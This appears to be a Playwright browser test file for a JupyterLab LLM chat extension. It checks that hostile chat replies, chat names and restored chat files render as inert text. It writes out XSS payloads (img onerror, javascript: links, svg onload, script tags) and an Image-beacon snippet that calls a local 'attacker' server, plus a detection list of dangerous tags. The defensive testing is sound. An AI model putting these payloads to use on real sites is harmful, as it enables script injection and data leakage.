"""Hostile replies and chat files in a real JupyterLab: no script runs, nothing is fetched from another host,
and the benign markdown around the payload still renders (headings, a table, highlighted code, math)."""

from __future__ import annotations

import json
import shutil
import threading
import urllib.parse
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest

from hostile import BENIGN, PAYLOADS, UNCLOSED_FENCE, fill

from .lab import cell, cells, open_notebook, run_all, run_new_cell

# What a payload's script would do if it ran: remember that it did, and call home.
PWN = "(window.__ct2Pwned = (window.__ct2Pwned || []).concat([{n}]), new Image().src = '{leak}/js/{n}')"
LIVE_REPLY = ('Live <img src=x onerror="window.__ct2Pwned=[99]"> [c](javascript:confirm(8)) '
              "<svg onload=\"prompt(7)\"> <div style=\"display:none\">\n\n## Streamed heading\n\n| col | n |\n|---|---|\n"
              "| beta | 2 |\n\n```python\ndef live():\n    return 2\n```\n\nArea: $\\pi r^2$")

# Checks run in the page over one output area: what is there that must not be, and what must be.
INSPECT = """(root) => {
  const bad = [];
  // What the outputs render (JupyterLab's own chrome around them, icons included, is not ours to judge).
  const rendered = Array.from(root.querySelectorAll('.jp-RenderedHTMLCommon, .jp-RenderedText'));
  for (const el of rendered.flatMap(r => Array.from(r.querySelectorAll('*')))) {
    const tag = el.tagName.toLowerCase();
    if (['script', 'iframe', 'object', 'embed', 'form', 'meta', 'link', 'base', 'img', 'svg', 'textarea',
         'input', 'video', 'details', 'noscript'].includes(tag) && !el.closest('mjx-container')) bad.push('<' + tag + '>');
    for (const a of el.attributes) {
      if (a.name.startsWith('on')) bad.push(tag + '[' + a.name + ']');
      if ((a.name === 'href' || a.name === 'src') && /^\\s*(javascript|data|vbscript):/i.test(a.value)) bad.push(tag + '[' + a.name + '=' + a.value.slice(0, 20) + ']');
    }
  }
  for (const st of rendered.flatMap(r => Array.from(r.querySelectorAll('style')))) if (!st.textContent.startsWith('.ct2-md')) bad.push('foreign <style>');
  const heading = Array.from(root.querySelectorAll('h2')).some(h => /Benign heading|Streamed heading/.test(h.textContent));
  const table = Array.from(root.querySelectorAll('table td')).some(td => /alpha|beta/.test(td.textContent));
  const code = root.querySelectorAll('pre.ct2-code span.k').length > 0;
  const math = root.querySelectorAll('mjx-container').length > 0;
  const hidden = Array.from(root.querySelectorAll('h2')).some(h => h.offsetParent === null);
  return {bad, heading, table, code, math, hidden};
}"""


class _Attacker(BaseHTTPRequestHandler):
    seen: list[str] = []

    def do_GET(self):  # noqa: N802 - http.server's name
        _Attacker.seen.append(self.path)
        self.send_response(204)
        self.end_headers()

    do_POST = do_GET

    def log_message(self, *args):
        pass


@pytest.fixture
def attacker():
    """A server on loopback that records every request a payload manages to send."""
    _Attacker.seen = []
    server = ThreadingHTTPServer(("127.0.0.1", 0), _Attacker)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}"
    finally:
        server.shutdown()


def hostile_chat_file(leak: str) -> dict:
    chats = {}
    for n, payload in enumerate(PAYLOADS):
        text = fill(payload, pwn=PWN.format(n=n, leak=leak), leak=leak)
        chats[f"p{n:02d}"] = {"system": None, "turns": [{"user": text, "assistant": text + BENIGN,
                                                          "status": "complete", "cell_id": None}]}
    # An open fence in one turn must not turn the next turn into code.
    chats["fence"] = {"system": None, "turns": [
        {"user": "show code", "assistant": UNCLOSED_FENCE, "status": "interrupted", "cell_id": None},
        {"user": "and now?", "assistant": BENIGN, "status": "complete", "cell_id": None}]}
    name = fill('<img src=x onerror="{pwn}">', pwn=PWN.format(n=100, leak=leak))
    chats[name] = {"system": fill("<script>{pwn}</script>", pwn=PWN.format(n=101, leak=leak)), "turns": []}
    return {"version": 1, "notebook": None, "chats": chats}


@pytest.mark.browser
def test_hostile_replies_and_chat_files_stay_inert(page, lab, attacker, script_model):
    from playwright.sync_api import expect

    lab_host = urllib.parse.urlsplit(lab.url).netloc
    outside: list[str] = []

    def guard(route):
        if urllib.parse.urlsplit(route.request.url).netloc == lab_host:
            route.continue_()
        else:
            outside.append(route.request.url)
            route.abort()

    page.context.route("**/*", guard)
    dialogs: list[str] = []
    page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))

    (lab.root / "hostile.json").write_text(json.dumps(hostile_chat_file(attacker)))
    names = [f"p{n:02d}" for n in range(len(PAYLOADS))] + ["fence"]
    model = "<img src=x onerror=alert(3)>"  # a model folder named like a tag: its name shows in the status line
    shutil.copytree(script_model(LIVE_REPLY), lab.root / model)
    source = ["%load_ext ct2_magics\n%llama restore hostile.json"]
    source += [f"%llama history --chat {name}" for name in names]
    source += ["%llama status", f"%llama load '{model}'", "%%llama -t 0\nShow me everything.", "%llama chat --chat p01"]
    lab.write_notebook("hostile.ipynb", source)
    open_notebook(page, lab, "hostile.ipynb")
    assert run_all(page, timeout=600) is True
    page.wait_for_timeout(1500)  # MathJax typesets after the outputs attach

    reports = {}
    for i, name in enumerate(names + ["live"]):
        index = 1 + i if name != "live" else len(source) - 2
        area = cell(page, index).locator(".jp-OutputArea").first
        reports[name] = area.evaluate(INSPECT)
    bad = {name: r for name, r in reports.items() if r["bad"]}
    assert not bad, f"active content reached the page: {bad}"
    for name, r in reports.items():
        assert r["heading"] and r["table"] and r["code"] and r["math"] and not r["hidden"], (name, r)

    # The panel: restored hostile turns, then a live hostile reply streamed into it.
    panel = cell(page, len(source) - 1).locator(".ct2-panel")
    expect(panel.locator(".ct2-assistant")).to_have_count(1, timeout=30_000)
    panel.get_by_placeholder("Message…").fill("<img src=x onerror=alert(5)> and **this**")
    panel.get_by_role("button", name="Send", exact=True).click()
    expect(panel.locator(".ct2-assistant")).to_have_count(2, timeout=60_000)
    expect(panel.locator(".ct2-assistant").nth(1)).to_contain_text("Streamed heading", timeout=60_000)
    page.wait_for_timeout(1000)
    assert panel.evaluate(INSPECT)["bad"] == []
    assert panel.locator(".ct2-user strong").last.inner_text() == "this"
    status_line = panel.locator(".ct2-status")
    expect(status_line).to_contain_text("<img src=x onerror=alert(3)>")
    assert status_line.evaluate("el => el.querySelectorAll('*').length") == 0  # text, never markup

    # %llama status names the chat whose name is an <img> tag: as text.
    status = cell(page, len(source) - 4).locator(".jp-OutputArea").first
    assert "<img src=x onerror=" in status.inner_text() and status.evaluate(INSPECT)["bad"] == []

    pwned = page.evaluate("() => window.__ct2Pwned || null")
    assert pwned is None and not dialogs, f"script ran: {pwned} {dialogs}"
    assert _Attacker.seen == [], f"the page called the attacker: {_Attacker.seen}"
    assert outside == [], f"requests left for other hosts: {outside}"
    assert not (lab.root / "pwned.txt").exists()
    assert cells(page).count() == len(source)


@pytest.mark.browser
def test_remote_images_load_only_when_allowed(page, lab, attacker):
    (lab.root / "images.json").write_text(json.dumps({"version": 1, "notebook": None, "chats": {
        "img": {"system": None, "turns": [{"user": "chart?", "assistant": f"![chart]({attacker}/chart.png)",
                                           "status": "complete", "cell_id": None}]}}}))
    lab.write_notebook("images.ipynb", ["%load_ext ct2_magics\n%llama restore images.json", "%llama history --chat img"])
    open_notebook(page, lab, "images.ipynb")
    assert run_all(page) is True
    page.wait_for_timeout(1000)
    assert _Attacker.seen == []
    assert f"{attacker}/chart.png" in cell(page, 1).locator(".jp-OutputArea").first.inner_text()
    run_new_cell(page, "%config LlamaSettings.remote_images = True\n%llama history --chat img")
    page.wait_for_function("() => document.querySelectorAll('.ct2-md img').length > 0", timeout=30_000)
    page.wait_for_timeout(1000)
    assert set(_Attacker.seen) == {"/chart.png"}
